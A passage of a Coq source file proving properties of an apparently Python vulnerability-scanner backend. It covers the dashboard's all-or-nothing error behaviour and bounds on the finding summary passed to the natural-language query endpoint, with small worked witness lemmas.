                    (dashboard_of scanned_world) ltac:(vm_compute; reflexivity))).
  vm_compute. reflexivity.
Defined.

(** X13.  The dashboard reads the database eight times.  Whatever the
    other tasks write in between, the only error it answers with is 500
    "Failed to get dashboard statistics".  When no other task writes
    during the reads, it answers with that error exactly when one of the
    eight reads fails, and otherwise with the statistics of the database
    as it found it. *)
Theorem dashboard_all_or_nothing (env : Env) (w : World) :
  (forall others e, fst (get_dashboard_stats env others w) = inl e ->
     e = HTTPException 500 "Failed to get dashboard statistics") /\
  ((forall k, (k < 8)%nat -> env_db_fails env (k + w_dbops w) = false) ->
   fst (get_dashboard_stats env no_other_writes w) = inr (dashboard_of w)) /\
  ((exists k, (k < 8)%nat /\ env_db_fails env (k + w_dbops w) = true) ->
   fst (get_dashboard_stats env no_other_writes w) =
     inl (HTTPException 500 "Failed to get dashboard statistics")).
Proof.
  split; [intros others e; apply get_dashboard_stats_error|].
  rewrite get_dashboard_stats_result. split.
  - intros Hk. destruct (existsb _ _) eqn:E; [|reflexivity].
    apply existsb_exists in E as (k & Hin & Hf). apply in_seq in Hin.
    rewrite Hk in Hf by lia. discriminate.
  - intros (k & Hlt & Hf). replace (existsb _ _) with true; [reflexivity|].
    symmetry. apply existsb_exists. exists k. split; [apply in_seq; lia|exact Hf].
Qed.

Lemma dashboard_all_or_nothing_witness :
  fst (get_dashboard_stats demo_env no_other_writes scanned_world) = inr (dashboard_of scanned_world).
Proof.
  apply (proj1 (proj2 (dashboard_all_or_nothing demo_env scanned_world))).
  intros k _. reflexivity.
Defined.

(* ================================================================= *)
(** ** The context of [nlp_query] *)

(** [v["endpoint"][:50] + "..." if len(v["endpoint"]) > 50 else v["endpoint"]] *)
Definition endpoint_display (e : string) : string :=
  if Nat.ltb 50 (String.length e) then substring 0 50 e ++ "..." else e.

(** [context_data], from the findings and results the two queries
    returned; the Python sets are sets. *)
Record NlpContext := mkNlpContext {
  recent_vulnerabilities : nat;
  vulnerability_types : gset string;
  ctx_critical : nat;
  ctx_high : nat;
  ctx_medium : nat;
  ctx_low : nat;
  ctx_recent_scans : nat;
  common_endpoints : gset string
}.

Definition context_data (recent_vulns : list Vulnerability.t) (recent_scans : list ScanResult.t)
    : NlpContext :=
  mkNlpContext (length recent_vulns)
    (list_to_set (map Vulnerability.vulnerability_type recent_vulns))
    (length (List.filter (severity_is "critical") recent_vulns))
    (length (List.filter (severity_is "high") recent_vulns))
    (length (List.filter (severity_is "medium") recent_vulns))
    (length (List.filter (severity_is "low") recent_vulns))
    (length recent_scans)
    (list_to_set (map (fun v => endpoint_display (Vulnerability.endpoint v)) (take 10 recent_vulns))).

Lemma substring_0_length n (s : string) :
  String.length (substring 0 n s) = Nat.min n (String.length s).
Proof.
  revert n. induction s as [|c s IH]; intros [|n]; simpl; try reflexivity.
  now rewrite IH.
Qed.

Lemma string_length_append (s1 s2 : string) :
  String.length (s1 ++ s2) = (String.length s1 + String.length s2)%nat.
Proof. induction s1 as [|c s1 IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma severity_filters_le vs :
  (length (List.filter (severity_is "critical") vs) + length (List.filter (severity_is "high") vs)
   + length (List.filter (severity_is "medium") vs) + length (List.filter (severity_is "low") vs)
   <= length vs)%nat.
Proof.
  induction vs as [|v vs IH]; cbn [List.filter length]; [lia|].
  assert (Hd : forall s, severity_is s v = String.eqb (Vulnerability.severity v) s)
    by reflexivity.
  rewrite !Hd.
  destruct (String.eqb_spec (Vulnerability.severity v) "critical") as [E1|E1],
    (String.eqb_spec (Vulnerability.severity v) "high") as [E2|E2],
    (String.eqb_spec (Vulnerability.severity v) "medium") as [E3|E3],
    (String.eqb_spec (Vulnerability.severity v) "low") as [E4|E4];
    try congruence; cbn [length]; lia.
Qed.

(** X14.  In the context given to GPT-4o by the natural-language query
    endpoint, each common endpoint is the endpoint of one of the ten
    first findings, kept as it is when it has at most 50 characters and
    otherwise cut to its first 50 followed by "..." (so at most 53
    characters); the four severity counts add up to at most the number
    of findings. *)
Theorem nlp_context_bounds (recent_vulns : list Vulnerability.t)
    (recent_scans : list ScanResult.t) (e : string) :
  (ctx_critical (context_data recent_vulns recent_scans) +
   ctx_high (context_data recent_vulns recent_scans) +
   ctx_medium (context_data recent_vulns recent_scans) +
   ctx_low (context_data recent_vulns recent_scans) <=
     recent_vulnerabilities (context_data recent_vulns recent_scans))%nat /\
  (e ∈ common_endpoints (context_data recent_vulns recent_scans) ->
   (String.length e <= 53)%nat /\
   exists v, In v (take 10 recent_vulns) /\
     ((String.length (Vulnerability.endpoint v) <= 50)%nat /\ e = Vulnerability.endpoint v \/
      (50 < String.length (Vulnerability.endpoint v))%nat /\
      e = substring 0 50 (Vulnerability.endpoint v) ++ "...")).
Proof.
  split; [apply severity_filters_le|].
  intros He. simpl in He. apply elem_of_list_to_set, list_elem_of_In, in_map_iff in He.
  destruct He as (v & <- & Hin). unfold endpoint_display.
  destruct (Nat.ltb_spec 50 (String.length (Vulnerability.endpoint v))) as [Hl|Hl].
  - rewrite string_length_append, substring_0_length. change (String.length "...") with 3%nat.
    split; [lia|].
    exists v. split; [exact Hin|]. right. split; [exact Hl|reflexivity].
  - split; [lia|]. exists v. split; [exact Hin|]. left. split; [exact Hl|reflexivity].
Qed.

Definition long_endpoint_finding : Vulnerability.t :=
  Vulnerability.mk 1 "scan-1" "XSS_form_input" "high"
    "https://x.test/a/very/long/path/that/goes/on/and/on/forever?x=1" "q" "p" "e"
    None None false.

Lemma nlp_context_bounds_witness :
  (String.length "https://x.test/a/very/long/path/that/goes/on/and/o..." <= 53)%nat /\
  exists v, In v (take 10 [long_endpoint_finding]) /\
    ((String.length (Vulnerability.endpoint v) <= 50)%nat /\
       "https://x.test/a/very/long/path/that/goes/on/and/o..." = Vulnerability.endpoint v \/
     (50 < String.length (Vulnerability.endpoint v))%nat /\
       "https://x.test/a/very/long/path/that/goes/on/and/o..." =
         substring 0 50 (Vulnerability.endpoint v) ++ "...").
Proof.
  apply (proj2 (nlp_context_bounds [long_endpoint_finding] []
                  "https://x.test/a/very/long/path/that/goes/on/and/o...")).
  simpl. apply elem_of_union_l, elem_of_singleton. vm_compute. reflexivity.
Defined.
